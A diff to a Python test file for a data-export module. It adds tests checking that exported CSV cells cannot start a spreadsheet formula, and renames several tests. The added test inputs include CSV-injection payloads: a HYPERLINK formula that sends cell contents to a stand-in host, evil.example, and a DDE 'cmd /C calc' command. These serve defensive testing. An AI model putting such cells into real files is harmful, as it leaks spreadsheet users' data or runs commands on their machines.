@@ -15,7 +15,7 @@ import pyarrow.parquet as pq
 import pytest
 
 from projections.errors import OutputRefused, QueryRefused
-from projections.read.export import WRITERS, write_file
+from projections.read.export import WRITERS, write_file, write_raw_csv
 
 INFINITE = 9_223_372_036_854_775_807
 
@@ -42,8 +42,43 @@ def read_back(content: bytes, folder: Path, columns: str = "*") -> tuple[list[st
         return [str(column[1]) for column in found.description or ()], found.fetchall()
 
 
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "-1+cmd|' /C calc'!A0",
+    "+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1",
+]
+
+
+class TestCsv:
+    @pytest.mark.parametrize("cell", HOSTILE_CELLS)
+    def test_no_text_begins_a_formula(self, cell: str) -> None:
+        quoted = cell.replace("'", "''")
+        query = f"""SELECT '{quoted}' AS text, ['{quoted}'] AS list,
+            '{quoted}'::ENUM ('{quoted}') AS choice, 1 AS "{cell.replace('"', '""')}" """
+        rows = list(csv.reader(io.StringIO(written("csv", query).decode(), newline="")))
+        assert rows[1] == [f"'{cell}", json.dumps([cell], ensure_ascii=False), f"'{cell}", "1"]
+        assert rows[0][-1] == f"'{cell}"
+        raw = io.BytesIO()
+        write_raw_csv(raw, *query_result(query))
+        assert list(csv.reader(io.StringIO(raw.getvalue().decode(), newline="")))[1][0] == cell
+
+    def test_numbers_and_times_stay(self) -> None:
+        query = (
+            "SELECT -1 AS a, -1.5 AS b, '-infinity'::TIMESTAMPTZ AS c, -INTERVAL 1 DAY AS d, 'a-b=c' AS e, NULL AS f"
+        )
+        first = written("csv", query).decode().splitlines()[1].split(",")
+        assert first[:3] == ["-1", "-1.5", "-infinity"]
+        assert not first[3].startswith("'")
+        assert first[-2:] == ["a-b=c", ""]
+
+
 class TestParquet:
-    def test_instants_keep_type_and_zone(self, tmp_path: Path) -> None:
+    def test_instants_preserve_type_and_zone(self, tmp_path: Path) -> None:
         content = written(
             "parquet", "SELECT TIMESTAMPTZ '2025-04-02 09:30:00.123456Z' AS moment, DATE '2025-04-02' AS day"
         )
@@ -73,7 +108,7 @@ class TestParquet:
         ]
         assert rows[0][:2] == ([1, 2], {"a": 1, "b": ["x"]})
 
-    def test_of_no_rows_it_keeps_the_columns(self, tmp_path: Path) -> None:
+    def test_of_no_rows_it_has_the_columns(self, tmp_path: Path) -> None:
         types, rows = read_back(written("parquet", "SELECT 1 AS x, 'a' AS y WHERE false"), tmp_path)
         assert (types, rows) == (["INTEGER", "VARCHAR"], [])
 
@@ -148,6 +183,6 @@ class TestFiles:
         assert pq.read_table(path).num_rows == 1
         assert list(tmp_path.iterdir()) == [path]
 
-    def test_one_that_cannot_be_written_is_said(self, tmp_path: Path) -> None:
+    def test_one_that_cannot_be_written_is_reported(self, tmp_path: Path) -> None:
         with pytest.raises(OutputRefused, match=r"nowhere/rows\.csv cannot be written"):
             write_file(tmp_path / "nowhere" / "rows.csv", WRITERS["csv"], *query_result("SELECT 1 AS x"))
